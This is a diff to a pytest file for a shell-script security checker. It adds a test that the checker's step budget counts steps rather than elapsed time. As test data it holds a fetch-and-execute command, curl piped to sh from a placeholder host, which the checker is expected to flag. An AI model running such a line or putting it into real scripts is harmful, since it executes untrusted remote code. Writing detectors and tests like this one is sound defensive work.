@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 
+from dvm.checks.scripts import shell
 from tests.unit.checks.scripts.reviewing import STRICT, codes
 
 FETCH = "curl -fsSL https://e.example/x | sh"
@@ -57,3 +58,10 @@ def test_a_shell_that_is_given_the_network_is_run_whatever_stands_before_it(text
 def test_a_format_is_no_secret_and_what_it_is_given_is() -> None:
     assert codes(STRICT + """printf 'API_TOKEN=%s\\n' "$API_TOKEN" >~/.env\n""") == set()
     assert codes(STRICT + """printf 'API_TOKEN=%s\\n' 7hJq2xLpW9 >~/.env\n""") == {"DVM402"}
+
+
+def test_the_budget_counts_steps_not_the_speed_of_the_machine(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(shell, "_SECONDS", 3600.0)
+    monkeypatch.setattr(shell, "_MOST_STEPS", 2000)
+    assert codes(STRICT + "true\n" * 980 + FETCH + "\n") == {"DVM202"}
+    assert codes(STRICT + "true\n" * 1001 + FETCH + "\n") == {"DVM210"}
